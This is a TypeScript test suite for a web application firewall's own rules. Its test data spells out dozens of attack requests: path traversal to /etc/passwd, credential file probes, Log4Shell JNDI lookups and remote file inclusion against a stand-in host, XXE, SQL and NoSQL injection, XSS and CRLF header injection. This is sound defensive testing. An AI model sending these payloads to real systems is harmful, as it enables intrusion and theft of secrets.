import { describe, expect, test } from "bun:test";
import { loadRuleSet } from "@egide/waf/rule-set.ts";
import { OWN_IDS, ownRules } from "#own.ts";
import { ask, type Asked } from "#testing/ask.ts";
import { alone, attacks } from "#testing/attacks.ts";
import { ordinary } from "#testing/ordinary.ts";

const before = {
  name: "before.conf",
  text: String.raw`
SecRequestBodyLimit 1000000
SecRule REQUEST_HEADERS:Content-Type "@rx xml" "id:1,phase:1,pass,nolog,ctl:requestBodyProcessor=XML"
SecRule REQUEST_HEADERS:Content-Type "@rx json" "id:2,phase:1,pass,nolog,ctl:requestBodyProcessor=JSON"`,
};
const rules = loadRuleSet([before, ...ownRules]);
const THRESHOLD = 5;

function found(asked: Asked): { score: number; tags: readonly string[]; ids: number[] } {
  const outcome = ask(rules, asked);
  expect(outcome.fault).toBeUndefined();
  expect(outcome.unfinished).toEqual([]);
  return {
    score: outcome.inboundScore,
    tags: outcome.matches.flatMap((match) => match.tags),
    ids: outcome.matches.map((match) => match.ruleId),
  };
}

/** Where a value stands in a query, a form and a document. */
const placesOf = (value: string, name: string): readonly Asked[] => [
  { target: `/search?${name}=${encodeURIComponent(value)}` },
  { target: "/", form: { name: "x", comment: value } },
  { target: "/api", json: { list: [{ text: value }] } },
];

describe("attacks are found", () => {
  for (const [lists, name] of [
    [attacks, "q"],
    [alone, "id"],
  ] as const) {
    for (const [tag, values] of Object.entries(lists)) {
      test.each(values.map((value) => [JSON.stringify(value), value] as const))(
        `${tag}: %s`,
        (_text, value) => {
          for (const place of placesOf(value, name)) {
            const { score, tags } = found(place);
            expect(tags).toContain(tag);
            expect(score).toBeGreaterThanOrEqual(THRESHOLD);
          }
        },
      );
    }
  }

  test("but not where people search for words", () => {
    for (const value of Object.values(alone).flat()) {
      // Literals, and code that nothing else reads like, are found there as well.
      if (/'/.test(value)) continue;
      expect(found({ target: `/search?q=${encodeURIComponent(value)}` }).ids).toEqual([]);
    }
  });

  const requests: readonly (readonly [string, Asked])[] = [
    ["attack-scanner", { target: "/.env" }],
    ["attack-scanner", { target: "/app/.env.production" }],
    ["attack-scanner", { target: "/.git/config" }],
    ["attack-scanner", { target: "/x/../.git/HEAD" }],
    ["attack-scanner", { target: "/%2egit/HEAD" }],
    ["attack-scanner", { target: "/.DS_Store" }],
    ["attack-scanner", { target: "/.aws/credentials" }],
    ["attack-scanner", { target: "/wp-config.php.bak" }],
    ["attack-scanner", { target: "/wp-config.php~" }],
    ["attack-scanner", { target: "/backup.sql" }],
    ["attack-scanner", { target: "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php" }],
    ["attack-scanner", { target: "/_ignition/execute-solution", json: {} }],
    ["attack-scanner", { target: "/actuator/heapdump" }],
    ["attack-scanner", { target: "/HNAP1/" }],
    ["attack-scanner", { target: "/uploads/c99.php" }],
    ["attack-scanner", { target: "/", headers: { "User-Agent": "sqlmap/1.8#stable" } }],
    ["attack-scanner", { target: "/", headers: { "User-Agent": "Mozilla/5.0 (Nikto/2.5)" } }],
    ["attack-scanner", { target: "/.claude/settings.json" }],
    ["attack-protocol", { target: "/a%0ab" }],
    ["attack-protocol", { target: "/?a%0d%0ab=c" }],
    ["attack-protocol", { target: "/", method: "TRACE" }],
    ["attack-protocol", { target: "/?a=%00" }],
    ["attack-protocol", { target: "/?a=x%0d%0aSet-Cookie:%20a=b" }],
    ["attack-protocol", { target: "/", headers: { Range: `bytes=${"0-1,".repeat(20)}2-3` } }],
    ["attack-lfi", { target: "/static/../../../../etc/passwd" }],
    ["attack-lfi", { target: "/static/..%2f..%2f..%2fetc/passwd" }],
    ["attack-lfi", { target: "/..;/manager/html" }],
    ["attack-lfi", { target: "/a", headers: { Cookie: "lang=../../../../etc/passwd" } }],
    ["attack-rfi", { target: "/?page=http://x.example/shell.txt?" }],
    ["attack-rfi", { target: "/?src=http://192.0.2.1/a.php" }],
    ["attack-rfi", { target: "/?mosConfig_absolute_path=https://x.example" }],
    ["attack-lfi", { target: "/", headers: { "X-File": "../../../etc/passwd" } }],
    ["attack-upload", { target: "/", headers: { "X-File-Name": "a.php." } }],
    ["attack-upload", { target: "/", headers: { "X.Filename": "sess_0123456789abcdef" } }],
    ["attack-rce", { target: "/", headers: { "User-Agent": ";env" } }],
    ["attack-injection-java", { target: "/", headers: { "X-Class": "java.lang.Runtime" } }],
    ["attack-injection-php", { target: "/", headers: { "X-Forwarded-For": "<?=phpinfo()?>" } }],
    ["attack-protocol", { target: "/?a=x%0d%0aLocation:%20https://x.example/" }],
    ["attack-protocol", { form: { a: "x\r\nLocation: /\r\nSet-Cookie: a=b" } }],
    ["attack-rce", { target: "/", headers: { "User-Agent": "() { :; }; echo x" } }],
    ["attack-rce", { target: "/", headers: { "User-Agent": "${jndi:ldap://x.example/a}" } }],
    ["attack-rce", { target: "/", headers: { "X-Api-Version": "${jndi:rmi://x.example/a}" } }],
    ["attack-xss", { target: "/", headers: { Referer: "http://x/<script>alert(1)</script>" } }],
    ["attack-xss", { target: "/<script>alert(1)</script>" }],
    ["attack-sqli", { target: "/", headers: { Cookie: "id=1' or '1'='1" } }],
    ["attack-sqli", { target: "/?id=1%20or%201=1" }],
    ["attack-injection-generic", { target: "/?__proto__[x]=1" }],
    ["attack-injection-generic", { json: { constructor: { prototype: { x: 1 } } } }],
    ["attack-nosqli", { form: { "user[$ne]": "x" } }],
    ["attack-nosqli", { json: { user: { $gt: "" } } }],
    ["attack-injection-java", { form: { "class.module.classLoader.resources": "x" } }],
    ["attack-injection-php", { target: "/?-d+allow_url_include%3d1" }],
    [
      "attack-xxe",
      {
        type: "application/xml",
        body: '<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>',
      },
    ],
    ["attack-lfi", { type: "text/xml", body: '<a probe="/etc/passwd"/>' }],
    [
      "attack-upload",
      {
        type: "multipart/form-data; boundary=b",
        body: '--b\r\nContent-Disposition: form-data; name="f"; filename="a.php"\r\nContent-Type: image/png\r\n\r\nx\r\n--b--\r\n',
      },
    ],
  ];
  test.each(requests.map(([tag, asked]) => [tag, JSON.stringify(asked), asked] as const))(
    "%s: %s",
    (tag, _text, asked) => {
      const { score, tags } = found(asked);
      expect(tags).toContain(tag);
      expect(score).toBeGreaterThanOrEqual(THRESHOLD);
    },
  );
});

describe("ordinary requests pass", () => {
  const session = (referer: string, host: string): ReturnType<typeof found> =>
    found({ target: "/login?jsessionid=abc", headers: { Referer: referer, Host: host } });

  test.each([
    ["https://example.org/a?b=1", "example.org"],
    ["https://example.org", "example.org"],
    ["https://example.org/", "Example.ORG"],
    ["https://Pay.example.org/", "example.org"],
    ["http://example.org:8080/", "example.org:8080"],
    ["http://[::1]:8080/", "[::1]:8080"],
    ["https://example.org?next=/", "example.org"],
  ])("with a session in a link of the site itself: %s to %s", (referer, host) => {
    expect(session(referer, host).ids).toEqual([]);
  });

  test.each([
    ["https://evilexample.org/", "example.org"],
    ["https://x.example/", "example.org"],
    ["https://example.org@x.example/", "example.org"],
    ["https://example.org.x.example/", "example.org"],
    ["https://x.example#example.org", "example.org"],
    ["https://pay.example/", "shop.example"],
  ])("though with a warning, with a session in a link of another site: %s to %s", (from, host) => {
    const { ids, score, tags } = session(from, host);
    expect(ids).toEqual([5_001_010]);
    expect(tags).toContain("attack-fixation");
    expect(score).toBe(3);
    expect(score).toBeLessThan(THRESHOLD);
  });

  test.each(ordinary.map((value) => [value] as const))("%j", (value) => {
    const places: Asked[] = [
      { target: `/search?q=${encodeURIComponent(value)}` },
      { target: "/post", form: { title: "x", message: value } },
      { target: "/api", json: { text: value } },
    ];
    for (const place of places) expect(found(place).ids).toEqual([]);
  });
});

describe("the files", () => {
  test("are plain ASCII, with ids of their own and the tags that settings speak of", () => {
    for (const { text } of ownRules) expect(text).toMatch(/^[\t\n\x20-\x7e]*$/);
    for (const rule of loadRuleSet(ownRules).rules.values()) {
      expect(rule.id).toBeGreaterThanOrEqual(OWN_IDS.from);
      expect(rule.id).toBeLessThanOrEqual(OWN_IDS.to);
      if (!rule.log || rule.disruption.kind === "deny") continue;
      const tags = rule.tags.map((tag) => tag.source);
      expect(tags.some((tag) => tag.startsWith("attack-"))).toBe(true);
      expect(tags.some((tag) => /^paranoia-level\/[12]$/.test(tag))).toBe(true);
      expect(rule.msg?.source ?? "").not.toBe("");
    }
  });

  test("block at the threshold, and not below paranoia level 2 what belongs there", () => {
    const blocked = ask(rules, { target: "/?q=%27%20or%201=1--" });
    expect(blocked.wouldBlock).toMatchObject({ status: 403, ruleId: 5_009_013 });
    const strict = { target: "/?q=see%20the%20file%20/etc/passwd%20there" };
    expect(found(strict).score).toBe(0);
    expect(found({ ...strict, paranoia: 2 }).score).toBeGreaterThanOrEqual(THRESHOLD);
  });

  test("refuse by the head alone what the head shows", () => {
    const transaction = rules.begin({ mode: "on" });
    transaction.requestLine("POST", "/.env", "HTTP/1.1");
    expect(transaction.requestHeaders(["Host", "example.org"])?.ruleId).toBe(5_009_003);
  });
});
